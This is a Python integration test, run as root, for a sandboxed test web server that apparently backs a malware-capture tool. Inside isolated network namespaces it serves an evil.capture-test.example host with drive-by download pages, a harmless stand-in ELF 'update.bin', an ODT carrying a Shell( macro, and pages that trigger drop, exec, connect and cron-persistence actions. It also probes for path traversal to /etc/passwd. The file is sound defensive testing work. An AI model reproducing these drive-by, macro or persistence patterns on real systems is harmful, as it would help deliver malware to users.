#!/usr/bin/python3
"""test-testweb.py TESTAPP - the bundled test web, end to end, as root.

Starts scripts/testweb with a stand-in gateway netns (testweb-gw) and its own
web netns (testweb-web), attaches a client netns (testweb-cl, 10.231.0.2,
routed through the gateway like a sandbox) whose /etc/hosts holds the lines
of `scripts/testweb hosts`, fetches every page with curl from the client,
checks the answers, the request log and determinism, lets capture-testapp
browse the testapp pages (in a private /tmp), then stops the web and checks
that nothing is left.  All traffic stays inside these namespaces."""
import hashlib
import io
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from urllib.parse import quote

TOP = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
TESTWEB = os.path.join(TOP, "scripts", "testweb")
TESTAPP = os.path.abspath(sys.argv[1])
GW, WEB, CL = "testweb-gw", "testweb-web", "testweb-cl"
WWW, EVIL = "www.capture-test.example", "evil.capture-test.example"
failures = []


def check(cond, what):
    print(("ok   " if cond else "FAIL ") + what, flush=True)
    if not cond:
        failures.append(what)


def sh(*cmd, **kw):
    return subprocess.run(list(cmd), capture_output=True, text=True, **kw)


def get(url, tmp, method="GET"):
    """curl from the client netns: (status, headers dict, body bytes)."""
    hdr, body = f"{tmp}/h", f"{tmp}/b"
    args = ["ip", "netns", "exec", CL, "curl", "-s", "-m", "60", "-D", hdr, "-o", body]
    if method == "HEAD":
        args.append("-I")
    p = subprocess.run(args + [url], capture_output=True)
    if p.returncode != 0:
        return 0, {}, b""
    lines = open(hdr, encoding="latin-1").read().splitlines()
    status = int(lines[0].split()[1])
    headers = {k.strip().lower(): v.strip() for k, _, v in
               (line.partition(":") for line in lines[1:] if ":" in line)}
    return status, headers, open(body, "rb").read()


def testweb(*args):
    return sh(TESTWEB, "--gw", GW, "--ns", WEB, "--state", STATE, *args)


def setup_client():
    sh("ip", "netns", "add", CL)
    for cmd in (["ip", "-n", CL, "link", "set", "lo", "up"],
                ["ip", "-n", GW, "link", "add", "testweb-cl0", "type", "veth", "peer", "name",
                 "eth0", "netns", CL],
                ["ip", "-n", GW, "addr", "add", "10.231.0.1/24", "dev", "testweb-cl0"],
                ["ip", "-n", GW, "link", "set", "testweb-cl0", "up"],
                ["ip", "-n", CL, "addr", "add", "10.231.0.2/24", "dev", "eth0"],
                ["ip", "-n", CL, "link", "set", "eth0", "up"],
                ["ip", "-n", CL, "route", "add", "default", "via", "10.231.0.1"]):
        subprocess.run(cmd, check=True)
    os.makedirs(f"/etc/netns/{CL}", exist_ok=True)
    hosts = testweb("hosts").stdout
    with open(f"/etc/netns/{CL}/hosts", "w") as f:
        f.write("127.0.0.1\tlocalhost\n" + hosts)
    return hosts


def test_pages(tmp):
    st, h, b = get(f"http://{WWW}/", tmp)
    check(st == 200 and b"benign pages" in b, "www / is the benign index (through the gateway, by name)")
    st, h, b = get(f"http://{EVIL}/", tmp)
    check(st == 200 and b"malicious pages" in b, "evil / is the malicious index (Host header)")
    st, h, b = get(f"http://198.51.100.10/evil/index.html", tmp)
    check(st == 200 and b"malicious pages" in b, "the evil index by path")
    st, h, b = get(f"http://{WWW}/plain.html", tmp)
    check(st == 200 and b"A plain page" in b and h.get("content-type", "").startswith("text/html")
          and int(h["content-length"]) == len(b), "plain page, Content-Length")
    st, h, b = get(f"http://{WWW}/js.html", tmp)
    check(st == 200 and b"setInterval" in b and b"appendChild" in b, "JS page")
    st, h, b = get(f"http://{WWW}/iframe.html", tmp)
    check(st == 200 and b.count(b"<iframe") == 3, "iframe page")
    st, h, b = get("http://ads.capture-test.example/ad.html", tmp)
    check(st == 200 and b"third-party" in b, "ads host")
    for code in (301, 302):
        st, h, b = get(f"http://{WWW}/redirect/{code}", tmp)
        check(st == code and h.get("location") == "/plain.html", f"{code} redirect")
    st, h, b = get(f"http://{WWW}/redirect/evil", tmp)
    check(st == 302 and h.get("location") == f"http://{EVIL}/drive-by.html", "cross-host redirect")
    st, h, b = get(f"http://{WWW}/redirect-js.html", tmp)
    check(st == 200 and b"location.replace('/plain.html')" in b, "JS redirect")
    st, h, b = get(f"http://{WWW}/images.html", tmp)
    check(st == 200 and b.count(b"<img") == 3, "images page")
    st, h, b = get(f"http://{WWW}/img/checker.png", tmp)
    check(st == 200 and h.get("content-type") == "image/png" and b[:8] == b"\x89PNG\r\n\x1a\n"
          and b[16:24] == b"\x00\x00\x00\x10\x00\x00\x00\x10", "PNG image 16x16")
    st, h, b = get(f"http://{WWW}/img/logo.svg", tmp)
    check(st == 200 and h.get("content-type") == "image/svg+xml", "SVG image")
    st, h, b = get(f"http://{WWW}/no-such-page.html", tmp)
    check(st == 404 and b"not found" in b, "404")
    st, h, b = get(f"http://{WWW}/../etc/passwd", tmp)
    check(st in (400, 404) and b"root:" not in b, "no path traversal")
    t0 = time.monotonic()
    st, h, b = get(f"http://{WWW}/slow?ms=1500", tmp)
    check(st == 200 and b"1500 ms" in b and time.monotonic() - t0 >= 1.5, "slow page waits")
    st, h, b = get(f"http://{WWW}/large?mb=5", tmp)
    check(st == 200 and len(b) == 5 * 1024 * 1024 and b.endswith(b"</html>\n"), "5 MiB page")
    st, h, b = get(f"http://{WWW}/large?mb=9999", tmp, "HEAD")
    check(st == 200 and h.get("content-length") == str(32 * 1024 * 1024), "large page is bounded")
    st, h, b = get(f"http://{WWW}/download.html", tmp)
    check(st == 200 and b'href="/files/readme.txt"' in b and b"download=" not in b,
          "benign file link, not a download")
    st, h, b = get(f"http://{WWW}/files/readme.txt", tmp)
    check(st == 200 and h.get("content-disposition", "").startswith("attachment"), "benign file")


def test_malicious(tmp):
    st, h, b = get(f"http://{EVIL}/drive-by.html", tmp)
    check(st == 200 and b"download=\"update.bin\"" in b and b".click()" in b, "drive-by page")
    st, h, b = get(f"http://{EVIL}/drive-by-blob.html", tmp)
    check(st == 200 and b"createObjectURL" in b and b"a.download" in b, "drive-by Blob page")
    st, h, b = get(f"http://{EVIL}/drive-by-slow.html", tmp)
    check(st == 200 and b"update.bin?ms=2500" in b, "slow drive-by page")
    t0 = time.monotonic()
    st, h, slow = get(f"http://{EVIL}/payload/update.bin?ms=600", tmp)
    check(st == 200 and time.monotonic() - t0 >= 0.6 and slow[:4] == b"\x7fELF" and
          h.get("content-disposition") == 'attachment; filename="update.bin"', "slow payload")
    st, h, b = get(f"http://{EVIL}/payload/update.bin", tmp)
    check(b == slow, "slow payload is the same ELF")
    check(st == 200 and b[:4] == b"\x7fELF" and
          h.get("content-disposition") == 'attachment; filename="update.bin"', "ELF as attachment")
    path = f"{tmp}/update.bin"
    with open(path, "wb") as f:
        f.write(b)
    os.chmod(path, 0o755)
    p = sh(path)
    check(p.returncode == 0 and p.stdout == "capture-testweb payload ran\n", "the ELF runs")
    st, h, b = get(f"http://{EVIL}/doc/invoice.odt", tmp)
    ok = st == 200 and b[:2] == b"PK"
    if ok:
        z = zipfile.ZipFile(io.BytesIO(b))
        ok = (z.read("mimetype") == b"application/vnd.oasis.opendocument.text"
              and b"Shell(" in z.read("Basic/Standard/Module1.xml")
              and b"dom:load" in z.read("content.xml"))
    check(ok, "macro document generated at start and served")
    st, h, b = get(f"http://{EVIL}/testapp/run?script=" + quote("write /x hi"), tmp)
    check(st == 200 and b"<!--capture-testapp write /x hi -->" in b, "testapp/run page")
    st, h, b = get(f"http://{EVIL}/testapp/run?script=" + quote("x --> y"), tmp)
    check(st == 400, "testapp/run refuses -->")
    st, h, b = get(f"http://198.51.100.10:8080/plain.html", tmp)
    check(st == 200 and b"A plain page" in b, "port 8080")


def test_determinism(tmp):
    for url in (f"http://{WWW}/large?mb=2", f"http://{EVIL}/payload/update.bin",
                f"http://{WWW}/img/checker.png", f"http://{EVIL}/testapp/all.html"):
        sums = {hashlib.sha256(get(url, tmp)[2]).hexdigest() for _ in range(2)}
        check(len(sums) == 1, f"same bytes twice: {url}")


def browse(url, home):
    """capture-testapp in the client netns with a private /tmp (mount ns).
    The binary is opened before /tmp is replaced (the build may live under
    /tmp) and run through /proc/self/fd."""
    script = (f"exec 9< {TESTAPP} && mount -t tmpfs testweb-tmp /tmp && mkdir -p /tmp/home && "
              f"HOME=/tmp/home XDG_CONFIG_HOME=/tmp/home/.config CAPTURE_TESTAPP_ROOT=/tmp/root "
              f"TMPDIR=/tmp /proc/self/fd/9 browse '{url}'; rc=$?; "
              f"find /tmp -type f | sort; exit $rc")
    return sh("ip", "netns", "exec", CL, "unshare", "-m", "sh", "-c", script, timeout=120)


def test_testapp(tmp):
    p = browse(f"http://{WWW}/testapp/benign.html", tmp)
    check(p.returncode == 0 and re.fullmatch(
        r"\d+ ok browse \S+ status=200 bytes=\d+ blocks=0\n", p.stdout) is not None,
        f"testapp: a page without instructions does nothing ({p.stdout!r})")
    p = browse("http://198.51.100.10:8080/testapp/benign.html", tmp)
    check(p.returncode == 0 and "status=200" in p.stdout and
          "\t198.51.100.10:8080\tGET\t/testapp/benign.html\t200\t" in open(f"{STATE}/requests.log").read(),
          "testapp: address, port and Host header")
    p = browse(f"http://{WWW}/no-such-page.html", tmp)
    check(p.returncode == 0 and "status=404" in p.stdout, "testapp: 404 page, nothing to run")
    expect = {"drop": 2, "exec": 4, "listen": 2, "connect": 2, "persist": 4, "all": 19}
    for page, n in expect.items():
        p = browse(f"http://{EVIL}/testapp/{page}.html", tmp)
        lines = [line for line in p.stdout.splitlines() if not line.startswith("/tmp/")]
        bad = [line for line in lines if " ok " not in line]
        check(p.returncode == 0 and len(lines) == n + 1 and not bad,
              f"testapp page {page}: {n} actions ok ({p.stdout!r} {p.stderr!r})")
        if page == "drop":
            check("/tmp/capture-testapp-drop.sh" in p.stdout, "drop page drops its file")
        if page == "persist":
            check("/tmp/root/var/spool/cron/crontabs/root" in p.stdout and
                  "/tmp/home/.config/dconf/user" in p.stdout, "persist page writes the hives")
    q = quote("write /tmp/from-page hello; exec /bin/true")
    p = browse(f"http://{EVIL}/testapp/run?script={q}", tmp)
    check(p.returncode == 0 and "/tmp/from-page" in p.stdout and "blocks=1" in p.stdout,
          "testapp/run?script= runs the given script")


def count_log(path):
    n = 0
    for line in open(f"{STATE}/requests.log"):
        f = line.rstrip("\n").split("\t")
        if len(f) == 8 and f[4] == path:
            n += 1
    return n


def main():
    global STATE
    if os.geteuid() != 0:
        print("test-testweb: needs root")
        return 1
    tmp = tempfile.mkdtemp(prefix="testweb-web.")
    STATE = f"{tmp}/state"
    for ns in (CL, WEB, GW):
        sh("ip", "netns", "del", ns)
    try:
        p = testweb("--create-gw", "start")
        check(p.returncode == 0 and "running" in p.stdout, f"start ({p.stdout} {p.stderr})")
        pid = int(open(f"{STATE}/pid").read())
        check(os.stat(f"/proc/{pid}/ns/net").st_ino == os.stat(f"/var/run/netns/{WEB}").st_ino,
              "server runs in the web netns")
        p = testweb("start")
        check(p.returncode == 0 and "already running" in p.stdout, "start is idempotent")
        check(testweb("status").returncode == 0, "status: running")
        hosts = setup_client()
        check(hosts.count("198.51.100.10\t") == 3 and WWW in hosts and EVIL in hosts, "hosts lines")
        test_pages(tmp)
        test_malicious(tmp)
        test_determinism(tmp)
        test_testapp(tmp)
        before = count_log("/plain.html")
        for _ in range(3):
            get(f"http://{WWW}/plain.html", tmp)
        check(count_log("/plain.html") == before + 3, "request log counts visits")
        p = testweb("stop")
        check(p.returncode == 0, "stop")
        check(not os.path.exists(f"/proc/{pid}"), "server process gone")
        left = sh("ip", "netns", "list").stdout
        check(WEB not in left and GW not in left, f"netns removed ({left!r})")
        check(testweb("status").returncode == 3, "status: not running")
    finally:
        testweb("stop")
        for ns in (CL, WEB, GW):
            sh("ip", "netns", "del", ns)
        shutil.rmtree(f"/etc/netns/{CL}", ignore_errors=True)
        shutil.rmtree(tmp, ignore_errors=True)
    print(f"test-testweb: {len(failures)} failures")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
